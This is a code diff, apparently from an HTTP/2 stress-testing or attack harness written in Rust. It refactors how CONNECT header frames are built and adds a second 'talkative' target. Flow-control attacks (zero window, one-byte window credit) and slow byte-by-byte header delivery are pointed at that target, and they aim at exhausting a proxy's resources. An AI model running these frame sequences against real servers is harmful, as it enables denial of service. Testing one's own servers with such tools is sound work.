@@ -40,25 +40,27 @@ pub struct Attack {
 /// Whom the requests ask for.
 #[derive(Debug, Clone)]
 pub struct Target {
+    /// Of an application that says nothing by itself.
     pub authority: String,
+    /// Of one that sends as much as is taken.
+    pub talkative: String,
 }
 
 impl Target {
     /// A whole CONNECT.
     pub fn connect(&self, stream: u32) -> Vec<u8> {
-        frame(HEADERS, END_HEADERS, stream, &self.block())
+        frame(HEADERS, END_HEADERS, stream, &block(&self.authority))
     }
 
-    /// The header block of a CONNECT.
-    fn block(&self) -> Vec<u8> {
-        let len = u8::try_from(self.authority.len()).expect("a short authority");
-        [
-            b"\x02\x07CONNECT\x01",
-            &[len][..],
-            self.authority.as_bytes(),
-        ]
-        .concat()
+    fn connect_talkative(&self, stream: u32) -> Vec<u8> {
+        frame(HEADERS, END_HEADERS, stream, &block(&self.talkative))
     }
+}
+
+/// The header block of a CONNECT.
+fn block(authority: &str) -> Vec<u8> {
+    let len = u8::try_from(authority.len()).expect("a short authority");
+    [b"\x02\x07CONNECT\x01", &[len][..], authority.as_bytes()].concat()
 }
 
 /// One frame.
@@ -209,7 +211,7 @@ fn unknown_frames(_: &Target, _: u32) -> Vec<u8> {
 fn zero_window(target: &Target, round: u32) -> Vec<u8> {
     match round {
         0 => frame(SETTINGS, 0, 0, &setting(4, 0)),
-        1..=200 => target.connect(stream(round - 1)),
+        1..=200 => target.connect_talkative(stream(round - 1)),
         _ => Vec::new(),
     }
 }
@@ -218,7 +220,7 @@ fn zero_window(target: &Target, round: u32) -> Vec<u8> {
 fn credit_by_the_byte(target: &Target, round: u32) -> Vec<u8> {
     match round {
         0 => frame(SETTINGS, 0, 0, &setting(4, 0)),
-        1 => target.connect(1),
+        1 => target.connect_talkative(1),
         _ => frame(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()),
     }
 }
@@ -271,7 +273,12 @@ fn huge_name(_: &Target, round: u32) -> Vec<u8> {
 /// A head of 2 KB in pieces of one byte.
 fn one_byte_at_a_time(target: &Target, round: u32) -> Vec<u8> {
     let long = [b"\x00\x01x\x7f\xd1\x0e", &[b'a'; 2000][..]].concat();
-    let head = frame(HEADERS, END_HEADERS, 1, &[target.block(), long].concat());
+    let head = frame(
+        HEADERS,
+        END_HEADERS,
+        1,
+        &[block(&target.authority), long].concat(),
+    );
     let byte = head.get(round as usize);
     byte.copied().into_iter().collect()
 }
